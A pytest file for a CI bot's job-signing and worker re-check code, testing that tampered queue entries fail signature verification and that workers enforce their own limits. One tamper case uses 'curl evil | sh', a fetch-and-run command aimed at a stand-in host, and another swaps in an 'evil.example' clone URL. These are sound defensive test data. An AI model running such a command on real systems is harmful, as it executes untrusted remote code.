"""Jobs from a repository's .prowlet.yaml on shared workers, the pure parts: the signature over a
queued spec and its change (bot.ci.signing), the queue entry's codec, and the claiming process's
own re-check of a verified spec (bot.inrepo.recheck).  Tables of named cases."""

from __future__ import annotations

import copy
from typing import Any

import pytest
import yaml

from bot.ci.jobs import Change
from bot.ci.signing import JobSigner, SpecError, decode_spec, encode_spec
from bot.ci.workers import QueuedJob, change_data, decode_job, encode_job
from bot.config import Config, parse_config
from bot.forge.base import GitSource
from bot.inrepo.layer import parse_layer
from bot.inrepo.recheck import refusal
from bot.settings import SettingsError, load_settings
from plugins import REGISTRY

REPO = "acme/widgets"
KEY = "k" * 32
JOB_ID = "0" * 32
CHANGE = Change(forge="github", repo=REPO, number=7, head_sha="a" * 40, base_ref="main", author="alice",
                source=GitSource(url="https://example.com/acme/widgets.git", ref="refs/pull/7/head", header="h"))
OPEN: dict[str, Any] = {"enabled": True, "allow": {"jobs": True, "network": True, "secrets": {"acme/*": ["NPM_TOKEN"]}}}


def _config(in_repo: dict[str, Any] | None = None, **extra: Any) -> Config:
    return parse_config({"in_repo_config": OPEN if in_repo is None else in_repo, **extra}, REGISTRY)


def _spec(config: Config | None = None, **fields: Any):  # noqa: ANN202
    """A job as serve's layer resolved it from the file."""
    layer = parse_layer(yaml.safe_dump({"jobs": [{"name": "smoke", "run": "make smoke", **fields}]}), REPO,
                        config or _config())
    assert not layer.problems, layer.problems
    (spec,) = layer.jobs
    return spec


def _signed() -> tuple[dict[str, Any], dict[str, Any], str]:
    spec = encode_spec(_spec(network=True, secrets=["NPM_TOKEN"], memory="1G"))
    change = change_data(CHANGE)
    return spec, change, JobSigner(KEY).sign(JOB_ID, change, spec)


def _set(path: str, value: Any) -> Any:
    def edit(entry: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        target = entry
        for name in parents:
            target = target[name]
        target[last] = value
    return edit


def _drop(path: str) -> Any:
    def edit(entry: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        target = entry
        for name in parents:
            target = target[name]
        del target[last]
    return edit


VERIFY = [
    ("untouched", None, True),
    ("the command changed", _set("spec.run", "curl evil | sh"), False),
    ("the executor changed", _set("spec.executor", "process"), False),
    ("network turned off", _set("spec.network", False), False),
    ("a secret added", _set("spec.secrets", ["NPM_TOKEN", "AWS_KEY"]), False),
    ("memory raised", _set("spec.limits.memory", 1 << 40), False),
    ("the timeout doubled", _set("spec.timeout", 7200.0), False),
    ("a key added to the spec", _set("spec.privileged", True), False),
    ("a key removed from the spec", _drop("spec.image"), False),
    ("replayed for another job id", _set("id", "1" * 32), False),
    ("replayed for another repository", _set("change.repo", "acme/other"), False),
    ("replayed for another commit", _set("change.head_sha", "b" * 40), False),
    ("replayed for another PR", _set("change.number", 8), False),
    ("another clone URL", _set("change.source.url", "https://evil.example/x.git"), False),
    ("signature missing", _set("sig", None), False),
    ("signature not text", _set("sig", 12345), False),
    ("signature empty", _set("sig", ""), False),
    ("signature truncated", lambda e: e.update(sig=e["sig"][:-2]), False),
    ("signature upper-cased", lambda e: e.update(sig=e["sig"].upper()), False),
    ("signed with another key",
     lambda e: e.update(sig=JobSigner("x" * 32).sign(e["id"], e["change"], e["spec"])), False),
]


@pytest.mark.parametrize(("edit", "verifies"), [c[1:] for c in VERIFY], ids=[c[0] for c in VERIFY])
def test_a_signature_verifies_only_for_the_entry_it_was_made_for(edit: Any, verifies: bool) -> None:
    spec, change, signature = _signed()
    entry = {"id": JOB_ID, "change": copy.deepcopy(change), "spec": copy.deepcopy(spec), "sig": signature}
    if edit is not None:
        edit(entry)
    assert JobSigner(KEY).verifies(entry["id"], entry["change"], entry["spec"], entry["sig"]) is verifies


def test_a_queued_entry_carries_spec_and_signature_through_the_codec() -> None:
    spec, _, signature = _signed()
    queued = QueuedJob(JOB_ID, "smoke", CHANGE, spec=spec, signature=signature)
    back = decode_job(encode_job(queued))
    assert back == queued
    assert JobSigner(KEY).verifies(back.job_id, change_data(back.change), back.spec, back.signature)
    # An operator's job still travels by name only.
    plain = encode_job(QueuedJob(JOB_ID, "unit", CHANGE))
    assert b'"spec"' not in plain and b'"sig"' not in plain
    assert decode_job(plain).spec is None


def test_a_decoded_spec_runs_as_the_layer_resolved_it() -> None:
    original = _spec(network=True, secrets=["NPM_TOKEN"], memory="1G", timeout="10m", executor="container",
                     image="alpine:3", clone=False)
    back = decode_spec(encode_spec(original), REPO)
    for name in ("name", "run", "clone", "timeout", "executor", "image", "network", "secrets", "limits"):
        assert getattr(back, name) == getattr(original, name), name
    # The operator's keys are the operator's: this repository only, no retry, its own status context.
    assert (back.repos, back.retry_on_worker_loss, back.context, back.skip_report) == ((REPO,), False, "", False)


BAD_SPECS = [
    ("not a mapping", ["make"]),
    ("no command", {**encode_spec(_spec()), "run": ""}),
    ("command not text", {**encode_spec(_spec()), "run": ["make"]}),
    ("network not a bool", {**encode_spec(_spec()), "network": "yes"}),
    ("limits missing a field", {**encode_spec(_spec()), "limits": {"memory": 1}}),
    ("negative limit", {**encode_spec(_spec()), "limits": {**encode_spec(_spec())["limits"], "memory": -1}}),
    ("timeout not a number", {**encode_spec(_spec()), "timeout": "1h"}),
    ("secret not text", {**encode_spec(_spec()), "secrets": [1]}),
]


@pytest.mark.parametrize("data", [c[1] for c in BAD_SPECS], ids=[c[0] for c in BAD_SPECS])
def test_a_malformed_spec_is_refused_not_run(data: Any) -> None:
    with pytest.raises(SpecError):
        decode_spec(data, REPO)


STRICT_NO_NETWORK = {**OPEN, "allow": {**OPEN["allow"], "network": False}}
STRICT_NO_SECRETS = {**OPEN, "allow": {**OPEN["allow"], "secrets": {}}}
RECHECK = [
    ("as allowed", {}, None, None, None),
    ("in_repo_config off here", {}, {"enabled": False}, None, "does not allow jobs from .prowlet.yaml in acme/widgets"),
    ("jobs not allowed here", {}, {**OPEN, "allow": {"jobs": False}}, None, "does not allow jobs"),
    ("another repository set here", {}, {**OPEN, "repos": ["other/*"]}, None, "does not allow jobs"),
    ("network not allowed here", {"network": True}, STRICT_NO_NETWORK, None, "get no network here"),
    ("secret not granted here", {"secrets": ["NPM_TOKEN"]}, STRICT_NO_SECRETS, None,
     "the secret NPM_TOKEN is not granted to acme/widgets here"),
    ("shorter max timeout here", {"timeout": "50m"}, {**OPEN, "max_job_timeout": "30m"}, None,
     "longer than this process's in_repo_config.max_job_timeout (30m)"),
    ("process executor by the runner here", {}, None, {"executor": "process"},
     "run sandboxed here, not with the process executor"),
    ("less memory here", {"memory": "2G"}, None, {"memory": "1G"},
     "its memory limit is higher than this process's runner.memory"),
    ("fewer processes here", {"processes": 100}, None, {"processes": 50}, "its processes limit is higher"),
    ("less cpu time here", {"cpu_time": "30m"}, None, {"cpu_time": "10m"}, "its cpu_time limit is higher"),
    ("smaller workspace here", {"workspace_size": "5G"}, None, {"workspace_size": "1G"},
     "its workspace_size limit is higher"),
    ("no limit where this runner has one", {"memory": "0"}, None, {"memory": "1G"},
     "no memory limit is looser than this process's runner.memory"),
    ("the runner's own limit applies", {}, None, {"memory": "1G"}, None),
    ("no limit where this runner has none", {"memory": "0"}, None, {"memory": "0"}, None),
]


@pytest.mark.parametrize(("fields", "worker_in_repo", "worker_runner", "expected"), [c[1:] for c in RECHECK],
                         ids=[c[0] for c in RECHECK])
def test_the_claiming_process_holds_a_verified_spec_to_its_own_config(
        fields: dict[str, Any], worker_in_repo: dict[str, Any] | None, worker_runner: dict[str, Any] | None,
        expected: str | None) -> None:
    serve = _config(runner={"memory": "0", "workspace_size": "0", "cpu_time": "0", "processes": 0})
    spec = decode_spec(encode_spec(_spec(serve, **fields)), REPO)  # as it arrives at the worker
    worker = _config(worker_in_repo, **({"runner": worker_runner} if worker_runner else {}))
    found = refusal(spec, REPO, worker)
    if expected is None:
        assert found is None
    else:
        assert found is not None and expected in found


def test_a_name_the_claiming_process_gives_its_own_job_is_refused() -> None:
    spec = decode_spec(encode_spec(_spec()), REPO)
    worker = _config(jobs=[{"name": "smoke", "run": "true"}])
    assert refusal(spec, REPO, worker) == "this process's config has a job named smoke"


SETTINGS = [
    ("unset", {}, None),
    ("32 characters", {"PROWLET_JOB_SIGNING_KEY": KEY}, KEY),
    ("blank is unset", {"PROWLET_JOB_SIGNING_KEY": "  "}, None),
]


@pytest.mark.parametrize(("env", "expected"), [c[1:] for c in SETTINGS], ids=[c[0] for c in SETTINGS])
def test_the_signing_key_comes_from_the_environment_and_is_masked(env: dict[str, str], expected: str | None) -> None:
    settings = load_settings(env)
    assert settings.job_signing_key == expected
    assert (KEY in settings.secrets()) is (expected is not None)  # redacted from logs, masked in job logs
    assert KEY not in repr(settings)


def test_a_short_signing_key_is_a_clear_error_without_the_key() -> None:
    with pytest.raises(SettingsError) as err:
        load_settings({"PROWLET_JOB_SIGNING_KEY": "short-secret"})
    assert "PROWLET_JOB_SIGNING_KEY must be at least 32 characters" in str(err.value)
    assert "short-secret" not in str(err.value)
